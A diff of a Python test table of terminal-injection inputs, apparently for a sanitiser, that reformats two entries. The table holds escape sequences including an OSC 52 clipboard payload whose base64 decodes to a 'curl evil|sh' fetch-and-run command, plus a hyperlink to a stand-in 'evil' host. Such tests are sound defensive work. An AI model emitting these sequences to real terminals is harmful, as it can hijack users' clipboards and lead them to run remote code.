@@ -18,7 +18,10 @@ ATTACKS = {
     "SGR colours": ("\x1b[32mREAD\x1b[0m", "\\x1b[32mREAD\\x1b[0m"),
     "OSC title, BEL": ("\x1b]0;TITLE\x07", "\\x1b]0;TITLE\\x07"),
     "OSC title, ST": ("\x1b]2;TITLE\x1b\\", "\\x1b]2;TITLE\\x1b\\"),
-    "OSC 8 hyperlink": ("\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\", "\\x1b]8;;http://evil\\x1b\\click\\x1b]8;;\\x1b\\"),
+    "OSC 8 hyperlink": (
+        "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
+        "\\x1b]8;;http://evil\\x1b\\click\\x1b]8;;\\x1b\\",
+    ),
     "OSC 52 clipboard": ("\x1b]52;c;Y3VybCBldmlsfHNo\x07", "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07"),
     "DCS": ("\x1bPq#0;2;0;0;0\x1b\\", "\\x1bPq#0;2;0;0;0\\x1b\\"),
     "DECSET alternate screen": ("\x1b[?1049h", "\\x1b[?1049h"),
@@ -49,7 +52,10 @@ ATTACKS = {
     "combining mark after a space": ("x \u20dd", "x <U+20DD>"),
     "combining mark after a control": ("\x1b\u0301", "\\x1b<U+0301>"),
     "a second acute on an ASCII letter": ("e\u0301\u0301", "e\u0301<U+0301>"),
-    "marks stacked taller than a letter": ("\u0439\u0301\u0301\u0301\u0301\u0301", "\u0439\u0301\u0301\u0301<U+0301><U+0301>"),
+    "marks stacked taller than a letter": (
+        "\u0439\u0301\u0301\u0301\u0301\u0301",
+        "\u0439\u0301\u0301\u0301<U+0301><U+0301>",
+    ),
     "grapheme joiner": ("a\u034fb", "a<U+034F>b"),
     "undecodable byte kept by surrogateescape": ("a\udcffb", "a\\xffb"),
 }
